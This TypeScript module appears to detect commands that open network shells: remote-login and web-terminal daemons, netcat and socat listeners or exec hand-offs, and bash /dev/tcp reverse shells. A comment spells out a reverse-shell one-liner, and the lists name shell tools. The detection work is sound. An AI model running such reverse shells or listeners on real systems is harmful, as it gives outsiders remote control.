// Finds programs that offer a shell over the network, or hand one to somebody out there.
import type { Command } from './command.ts';
import { isShell } from './wrappers.ts';

export interface ShellListener {
  /** Index into the commands given. */
  readonly index: number;
  /** `daemon`: a login or web terminal service; `listener`: a socket tool that waits; `reverse`: one that calls out. */
  readonly what: 'daemon' | 'listener' | 'reverse';
  /** Completes "the container …". Names programs only. */
  readonly message: string;
}

/** Daemons, with the options that only check or print. */
const daemons: ReadonlyMap<string, RegExp | null> = new Map<string, RegExp | null>([
  ['sshd', /^-(?:t|T|V|G)$/],
  ['dropbear', /^-[Vh]$/],
  ['tinysshd', null],
  ['telnetd', null],
  ['in.telnetd', null],
  ['utelnetd', null],
  ['rshd', null],
  ['in.rshd', null],
  ['rlogind', null],
  ['in.rlogind', null],
  ['rexecd', null],
  ['in.rexecd', null],
  ['ttyd', /^(?:-v|-h|--version|--help)$/],
  ['gotty', /^(?:-v|-h|--version|--help)$/],
  ['wetty', /^(?:-h|--version|--help)$/],
  ['shellinaboxd', /^(?:-h|--version|--help)$/],
  ['tmate', /^-V$/],
  ['upterm', null],
  ['sshx', null],
]);
const services: ReadonlySet<string> = new Set(['ssh', 'sshd', 'dropbear', 'telnetd', 'shellinabox']);
const netcats: ReadonlySet<string> = new Set('nc ncat netcat nc.traditional nc.openbsd pwncat'.split(' '));

/** Every command that opens a shell to the network, in order. Commands come from `commandsOf`. */
export function shellListeners(commands: readonly Command[]): ShellListener[] {
  return commands.flatMap((command, index): ShellListener[] => {
    const found =
      daemon(command) ?? serviceStart(command) ?? netcat(command) ?? socat(command) ?? deviceShell(command);
    return found === null ? [] : [{ index, ...found }];
  });
}

type Found = Omit<ShellListener, 'index'>;

function daemon({ program, arguments: words }: Command): Found | null {
  const harmless = daemons.get(program);
  if (harmless === undefined || words.some((word) => harmless?.test(word) === true)) return null;
  return { what: 'daemon', message: `runs a remote shell service (${program})` };
}

/** `service ssh start`, `systemctl start sshd`, `rc-service sshd start`, `/etc/init.d/ssh start`. */
function serviceStart({ program, path, arguments: words }: Command): Found | null {
  const starts = words.some((word) => /^(?:re)?start$/.test(word));
  const byTool = /^(?:service|systemctl|rc-service|initctl)$/.test(program);
  const names = byTool ? words : /\/init\.d\//.test(path) ? [program] : [];
  const name = names.map((word) => word.replace(/\.service$/, '')).find((word) => services.has(word));
  return starts && name !== undefined
    ? { what: 'daemon', message: `starts a remote shell service (${name})` }
    : null;
}

/** Options may stand in a cluster: `-lvnp 4444`. With `-z` nc only looks whether a port is open. */
function netcat({ program, arguments: words }: Command): Found | null {
  if (!netcats.has(program)) return null;
  const has = (letter: string, long: RegExp) =>
    words.some((word) => long.test(word) || (/^-[a-zA-Z]+$/.test(word) && word.includes(letter)));
  if (has('l', /^--listen$/)) return { what: 'listener', message: `listens on a socket (${program})` };
  const runs = has('e', /^--(?:exec|sh-exec|lua-exec)$/) || words.some((word) => /^-[a-zA-Z]*c$/.test(word));
  return runs ? { what: 'reverse', message: `hands a program to a remote host (${program})` } : null;
}

function socat({ program, arguments: words }: Command): Found | null {
  if (program !== 'socat') return null;
  // Address types: socat(1), "ADDRESS TYPES". Local (UNIX, ABSTRACT) sockets reach nobody outside.
  const listens = words.some((word) =>
    /^(?:TCP[46]?|SCTP[46]?|UDP[46]?|DCCP[46]?|OPENSSL|SSL|VSOCK|WS)-?(?:L|LISTEN|RECV|RECVFROM):/i.test(
      word,
    ),
  );
  const runs = words.some((word) => /^(?:EXEC|SYSTEM|SHELL|PTY)[:,]/i.test(word));
  const calls = words.some((word) => /^(?:TCP[46]?|SCTP[46]?|OPENSSL|SSL|VSOCK)(?:-CONNECT)?:/i.test(word));
  if (listens) return { what: 'listener', message: 'listens on a socket (socat)' };
  return runs && calls ? { what: 'reverse', message: 'hands a program to a remote host (socat)' } : null;
}

/** `bash -i >& /dev/tcp/host/port 0>&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
function deviceShell({ program, redirects, arguments: words }: Command): Found | null {
  const interactive = words.some((word) => /^-[a-z]*i[a-z]*$/.test(word));
  const remote = redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
  return isShell(program) && interactive && remote
    ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
    : null;
}
